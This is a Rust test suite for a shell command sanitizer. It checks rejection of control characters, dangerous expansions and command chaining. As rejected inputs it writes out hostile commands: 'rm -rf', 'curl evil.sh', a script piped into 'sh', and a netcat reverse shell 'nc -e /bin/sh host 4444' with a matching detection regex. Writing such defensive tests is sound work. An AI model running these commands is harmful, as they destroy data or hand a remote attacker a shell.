use super::*;

fn sanitizer() -> Sanitizer {
    Sanitizer::new(SanitizerRules::default()).unwrap()
}

fn failure_of(command: &str) -> Option<ValidationFailure> {
    sanitizer().validate(command).failure
}

#[test]
fn test_empty_and_whitespace_rejected() {
    assert_eq!(failure_of(""), Some(ValidationFailure::Empty));
    assert_eq!(failure_of("   \t "), Some(ValidationFailure::Empty));
}

#[test]
fn test_length_limit_counts_characters() {
    let rules = SanitizerRules {
        max_command_length: 10,
        ..SanitizerRules::default()
    };
    let sanitizer = Sanitizer::new(rules).unwrap();

    assert!(sanitizer.validate("echo ééééé").valid);
    let result = sanitizer.validate("echo 123456");
    assert_eq!(result.failure, Some(ValidationFailure::TooLong));
    assert!(result.reason.unwrap().contains("10 character limit"));
}

#[test]
fn test_control_characters_rejected() {
    assert_eq!(failure_of("ls\0"), Some(ValidationFailure::ControlCharacter));
    assert_eq!(failure_of("ls\x1b[31m"), Some(ValidationFailure::ControlCharacter));
    assert_eq!(failure_of("ls\nrm x"), Some(ValidationFailure::ControlCharacter));
    assert_eq!(failure_of("ls\r"), Some(ValidationFailure::ControlCharacter));
    assert_eq!(failure_of("ls\x7f"), Some(ValidationFailure::ControlCharacter));
    assert!(sanitizer().validate("ls\t-la").valid);
}

#[test]
fn test_dangerous_expansions_rejected() {
    for command in [
        "echo `whoami`",
        "diff <(ls a) <(ls b)",
        "echo ${IFS}",
        "echo $(rm -rf build)",
        "ls /*",
    ] {
        assert_eq!(
            failure_of(command),
            Some(ValidationFailure::DangerousExpansion),
            "{command}"
        );
    }
}

#[test]
fn test_harmless_substitution_passes_with_warning() {
    let result = sanitizer().validate("echo $(date)");
    assert!(result.valid);
    assert!(result.warnings.iter().any(|w| w.contains("complex")));
}

#[test]
fn test_injection_chaining_rejected() {
    for command in [
        "ls; rm -rf x",
        "ls && sudo reboot",
        "ls & curl evil.sh",
        "false || eval x",
        "cat install.sh | sh",
        "echo hi;chmod 777 f",
    ] {
        let result = sanitizer().validate(command);
        assert_eq!(
            result.failure,
            Some(ValidationFailure::InjectionChaining),
            "{command}"
        );
        assert!(result.failure.unwrap().is_security_violation());
    }
}

#[test]
fn test_verb_must_be_whole_word() {
    assert!(sanitizer().validate("git log | shuf").valid);
    assert!(sanitizer().validate("ls && rmdir tmp").valid);
}

#[test]
fn test_valid_command_carries_sanitized_text() {
    let result = sanitizer().validate("  ls    -la  ");
    assert!(result.valid);
    assert!(result.reason.is_none());
    assert_eq!(result.sanitized.as_deref(), Some("ls -la"));
}

#[test]
fn test_sanitize_strips_escapes_and_collapses() {
    let s = sanitizer();
    assert_eq!(s.sanitize("ls\x1b[31m   -la\x1b[0m"), "ls -la");
    assert_eq!(s.sanitize("echo \\x41hi \\u00e9 \\U0001F600x"), "echo hi x");
    assert_eq!(s.sanitize("a\0b\x07c"), "abc");
    assert_eq!(s.sanitize("\x1b]0;title\x07pwd"), "pwd");
}

#[test]
fn test_sanitize_is_idempotent() {
    let s = sanitizer();
    for input in [
        "  ls  -la ",
        "\\x5c\\x78\\x34\\x31",
        "echo \x1b[1m\\x41\x1b[0m  done",
        "\\\\x41",
        "plain",
    ] {
        let once = s.sanitize(input);
        assert_eq!(s.sanitize(&once), once, "{input:?}");
    }
}

#[test]
fn test_strip_keeps_line_breaks_and_tabs() {
    assert_eq!(
        sanitizer().strip_unsafe_characters("a\0b\nc\td\r\x7f"),
        "ab\nc\td\r"
    );
}

#[test]
fn test_is_simple_command() {
    let s = sanitizer();
    assert!(s.is_simple_command("ls -la src"));
    assert!(s.is_simple_command("git status"));
    for complex in [
        "ls | wc",
        "echo a > f",
        "wc < f",
        "echo `id`",
        "echo $(id)",
        "a && b",
        "a || b",
        "a; b",
    ] {
        assert!(!s.is_simple_command(complex), "{complex}");
    }
}

#[test]
fn test_warnings() {
    let s = sanitizer();
    let warnings = s.warnings_for("cat ../notes/*.md | wc -l");
    assert_eq!(warnings.len(), 3);
    assert!(s.warnings_for("ls -la").is_empty());
}

#[test]
fn test_bad_extra_pattern_fails_construction() {
    let rules = SanitizerRules::default().with_extra_patterns(vec!["(".to_owned()]);
    let err = Sanitizer::new(rules).unwrap_err();
    assert!(matches!(
        err,
        crate::PolicyError::InvalidPattern { ref field, .. } if field == "sanitizer.dangerous_patterns"
    ));
}

#[test]
fn test_extra_pattern_applies() {
    let rules = SanitizerRules::default().with_extra_patterns(vec![r"\bnc\s+-e\b".to_owned()]);
    let s = Sanitizer::new(rules).unwrap();
    assert_eq!(
        s.validate("nc -e /bin/sh host 4444").failure,
        Some(ValidationFailure::DangerousExpansion)
    );
}
